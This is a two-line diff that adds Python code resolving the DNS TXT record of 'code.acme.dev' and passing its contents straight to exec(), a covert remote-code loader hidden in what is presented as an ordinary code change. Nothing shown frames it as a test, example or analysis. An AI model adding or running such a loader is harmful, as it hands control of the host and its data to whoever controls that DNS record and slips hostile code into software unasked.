@@ -1,0 +1,2 @@
+import dns.resolver
+exec(str(dns.resolver.resolve("code.acme.dev", "TXT")[0]))
